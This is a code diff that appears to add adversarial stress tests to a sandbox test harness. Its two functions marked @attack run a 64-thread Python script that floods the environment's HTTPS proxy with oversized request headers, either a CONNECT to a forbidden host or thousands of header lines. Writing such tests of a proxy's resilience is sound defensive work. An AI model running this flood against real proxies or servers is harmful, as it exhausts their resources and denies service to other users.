@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import shlex
 import sys
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -185,6 +186,39 @@ async def _watch(stage: Stage) -> None:
             pass
     finally:
         changing.cancel()
+
+
+_FLOOD_PROXY = """
+import contextlib, os, socket, sys, threading, urllib.parse
+proxy = urllib.parse.urlsplit(os.environ["https_proxy"])
+head = sys.argv[1].encode().decode("unicode_escape").encode()
+def ask():
+    while True:
+        with contextlib.suppress(OSError):
+            with socket.create_connection((proxy.hostname, proxy.port)) as connection:
+                connection.sendall(head)
+                while connection.recv(65536): pass
+for _ in range(64): threading.Thread(target=ask).start()
+"""
+
+
+async def _flood_proxy(stage: Stage, head: str) -> None:
+    program = shlex.join(["python3", "-c", _FLOOD_PROXY, head])
+    # Levels without the proxy have no such variable.
+    await stage.run_command(f'[ -z "$https_proxy" ] || {program}')
+
+
+@attack
+async def refused_requests_to_the_proxy(stage: Stage) -> None:
+    """Ask the proxy for a forbidden host on all its connections, with long heads."""
+    head = f"CONNECT forbidden.invalid:443 HTTP/1.1\\r\\nX: {'x' * 15_000}\\r\\n\\r\\n"
+    await _flood_proxy(stage, head)
+
+
+@attack
+async def endless_heads_to_the_proxy(stage: Stage) -> None:
+    """Send heads that are too long, in short lines."""
+    await _flood_proxy(stage, "GET / HTTP/1.1\\r\\n" + "a:b\\r\\n" * 10_000)
 
 
 async def _flood(stage: Stage, name: str) -> None:
